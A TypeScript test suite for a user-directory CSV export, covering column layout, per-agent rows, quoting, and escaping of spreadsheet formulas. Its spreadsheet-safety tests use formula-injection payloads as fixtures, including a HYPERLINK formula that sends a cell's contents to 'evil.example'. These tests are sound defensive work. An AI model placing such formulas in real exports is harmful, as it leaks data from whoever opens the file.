import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { normalizeIdentifier } from './identifiers.ts';
import type { AccountSettings, Agent, Identifier, IdentifierInput, UserRecord } from './types.ts';
import { spreadsheetSafeCell, toUsersCsv, USERS_CSV_COLUMNS, usersCsv, usersCsvRows } from './users-csv.ts';

const DAY_MS = 24 * 60 * 60 * 1000;
const now = new Date('2025-06-30T12:00:00Z');
const settings: AccountSettings = {
  emailAutoDetection: true,
  activityThresholdDays: 14,
  expandedAgentUserAssociation: false,
  personalEmailDomains: [],
};

let nextId = 100;
function identifier(input: IdentifierInput, updatedAt: string): Identifier {
  const result = normalizeIdentifier(input);
  if (!result.ok) throw new Error(result.error.message);
  return { ...result.value, id: nextId++, userId: 1, source: 'manual', updatedAt: new Date(updatedAt) };
}

function agent(
  id: number,
  username: string,
  firstLog: Date | null,
  lastLog: Date | null,
  hasData = true,
): Agent {
  return { id, userId: 1, username, logonDomain: 'CORP', firstLog, lastLog, hasData };
}

function userRecord(overrides: Partial<UserRecord> = {}): UserRecord {
  return {
    id: 1,
    displayName: { value: null, source: null },
    timeZone: { value: null, source: null },
    primaryGroup: { value: null, source: null },
    tracking: 'tracked',
    groups: [],
    identifiers: [],
    agents: [],
    createdAt: new Date('2025-01-01T00:00:00Z'),
    ...overrides,
  };
}

function column(row: string[] | undefined, name: (typeof USERS_CSV_COLUMNS)[number]): string | undefined {
  return row?.[USERS_CSV_COLUMNS.indexOf(name)];
}

const laptopFirst = new Date(now.getTime() - 90 * DAY_MS);
const desktopFirst = new Date(now.getTime() - 30 * DAY_MS);
const jane = userRecord({
  id: 7,
  displayName: { value: 'Jane Doe', source: 'manual' },
  timeZone: { value: 'Europe/Paris', source: 'manual' },
  primaryGroup: { value: 'Sales', source: 'manual' },
  groups: [
    { group: 'Sales', source: 'manual' },
    { group: 'EMEA', source: 'connector:aad' },
  ],
  identifiers: [
    identifier({ type: 'email', value: 'old@example.com' }, '2024-01-01T00:00:00Z'),
    identifier({ type: 'upn', value: 'jane@example.com' }, '2024-01-01T00:00:00Z'),
    identifier({ type: 'email', value: 'jane.doe@example.com' }, '2025-01-01T00:00:00Z'),
    identifier({ type: 'employee_id', value: 'E-7' }, '2024-01-01T00:00:00Z'),
    identifier({ type: 'device_login', value: 'jdoe', domain: 'CORP' }, '2024-01-01T00:00:00Z'),
  ],
  agents: [
    agent(21, 'jdoe-desktop', desktopFirst, new Date(now.getTime() - DAY_MS)),
    agent(20, 'jdoe', laptopFirst, new Date(now.getTime() - 2 * DAY_MS)),
  ],
});
const placeholder = userRecord({
  id: 8,
  tracking: 'untracked',
  identifiers: [identifier({ type: 'employee_id', value: 'E-8' }, '2024-01-01T00:00:00Z')],
});

describe('Users.csv rows', () => {
  it('has the documented columns in the documented order', () => {
    expect([...USERS_CSV_COLUMNS]).toEqual([
      'ID',
      'User',
      'Display Name',
      'User Principal Name',
      'Email',
      'Employee ID',
      'Tracking',
      'Groups',
      'Licenses',
      'Primary Group',
      'Agent Username',
      'Agent Logon Domain',
      'First Log',
      'Last Log',
      'Status',
      'User Time Zone',
    ]);
  });

  it('writes one row per agent, ordered by first log, repeating the user cells', () => {
    const rows = usersCsvRows([jane], settings, now);
    expect(rows).toEqual([
      [
        '7',
        'Jane Doe',
        'Jane Doe',
        'jane@example.com',
        'jane.doe@example.com; old@example.com',
        'E-7',
        'Tracked',
        '2',
        '2',
        'Sales',
        'jdoe',
        'CORP',
        laptopFirst.toISOString(),
        new Date(now.getTime() - 2 * DAY_MS).toISOString(),
        'Active',
        'Europe/Paris',
      ],
      [
        '7',
        'Jane Doe',
        'Jane Doe',
        'jane@example.com',
        'jane.doe@example.com; old@example.com',
        'E-7',
        'Tracked',
        '2',
        '2',
        'Sales',
        'jdoe-desktop',
        'CORP',
        desktopFirst.toISOString(),
        new Date(now.getTime() - DAY_MS).toISOString(),
        'Active',
        'Europe/Paris',
      ],
    ]);
  });

  it('writes one row with empty agent columns for a user without agents', () => {
    expect(usersCsvRows([placeholder], settings, now)).toEqual([
      ['8', 'E-8', '', '', '', 'E-8', 'Untracked', '0', '0', '', '', '', '', '', 'Unlicensed', ''],
    ]);
  });

  it('groups rows by user in the given order', () => {
    const rows = usersCsvRows([placeholder, jane], settings, now);
    expect(rows.map((row) => row[0])).toEqual(['8', '7', '7']);
  });

  it('shares one cell among several values of a type, most recently updated first', () => {
    const row = usersCsvRows([jane], settings, now)[0];
    expect(column(row, 'Email')).toBe('jane.doe@example.com; old@example.com');
  });

  it('does not export device logins as identifiers (agents have their own columns)', () => {
    const row = usersCsvRows([jane], settings, now)[0] ?? [];
    expect(row.some((cell) => cell.includes('CORP\\jdoe'))).toBe(false);
  });

  it('shows the representative identifier as User when there is no display name', () => {
    const row = usersCsvRows([{ ...jane, displayName: { value: null, source: null } }], settings, now)[0];
    expect(column(row, 'User')).toBe('jane@example.com');
    expect(column(row, 'Display Name')).toBe('');
  });

  it('writes Status and Licenses as derived: an untracked user with data is Inactive and keeps its licenses', () => {
    const row = usersCsvRows([{ ...jane, tracking: 'untracked' }], settings, now)[0];
    expect(column(row, 'Status')).toBe('Inactive');
    expect(column(row, 'Tracking')).toBe('Untracked');
    expect(column(row, 'Licenses')).toBe('2');
  });

  it('counts licenses as agents with data and leaves a never-reported agent dates empty, listed last', () => {
    const fresh = agent(5, 'new-pc', null, null, false);
    const rows = usersCsvRows([{ ...jane, agents: [fresh, ...jane.agents] }], settings, now);
    expect(rows.map((row) => column(row, 'Agent Username'))).toEqual(['jdoe', 'jdoe-desktop', 'new-pc']);
    expect(column(rows[2], 'First Log')).toBe('');
    expect(column(rows[2], 'Licenses')).toBe('2');
  });
});

describe('spreadsheet safety', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ['+1'],
    ['-2'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
  ])('prefixes a formula-like cell with a single quote: %j', (value) => {
    expect(spreadsheetSafeCell(value)).toBe(`'${value}`);
  });

  it('leaves ordinary cells untouched', () => {
    for (const value of ['Jane Doe', 'a=b', 'jane@example.com', '2025-06-30T12:00:00.000Z', '', "'quoted"]) {
      expect(spreadsheetSafeCell(value)).toBe(value);
    }
  });

  it('makes every exported cell safe, whatever column it comes from', () => {
    const hostile = userRecord({
      id: 9,
      displayName: { value: '=HYPERLINK("http://evil.example","x")', source: 'connector:hr' },
      primaryGroup: { value: '@SUM(1+1)', source: 'connector:hr' },
      agents: [agent(1, '+cmd', now, now), agent(2, '-2', now, now)],
    });
    const parsed: string[][] = parse(usersCsv([hostile], settings, now));
    const cells = parsed.slice(1).flat();
    expect(cells).toContain('\'=HYPERLINK("http://evil.example","x")');
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells).toContain("'+cmd");
    expect(cells).toContain("'-2");
    expect(cells.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });
});

describe('Users.csv text', () => {
  it('starts with the header row and ends every line with CRLF', () => {
    const text = toUsersCsv([['1', 'Ann']]);
    expect(text.startsWith(`${USERS_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(text.endsWith('1,Ann\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '').includes('\n')).toBe(false);
  });

  it('quotes cells with commas, quotes and line breaks so rows survive a round trip', () => {
    const tricky = ['1', 'Doe, Jane', 'say "hi"', 'two\nlines', 'carriage\rreturn'];
    const rows = [[...tricky, ...Array<string>(USERS_CSV_COLUMNS.length - tricky.length).fill('')]];
    const parsed: string[][] = parse(toUsersCsv(rows));
    expect(parsed).toEqual([[...USERS_CSV_COLUMNS], ...rows]);
  });

  it('writes UTF-8 without a byte order mark unless asked for one', () => {
    const text = toUsersCsv([['1', 'José Müller 山田']]);
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(text).toContain('José Müller 山田');
    expect(toUsersCsv([], { bom: true }).charCodeAt(0)).toBe(0xfeff);
  });

  it('exports users end to end: header plus one line per agent', () => {
    const lines = usersCsv([jane, placeholder], settings, now).trimEnd().split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[1]?.startsWith('7,Jane Doe,')).toBe(true);
    expect(lines[3]?.startsWith('8,E-8,')).toBe(true);
  });
});
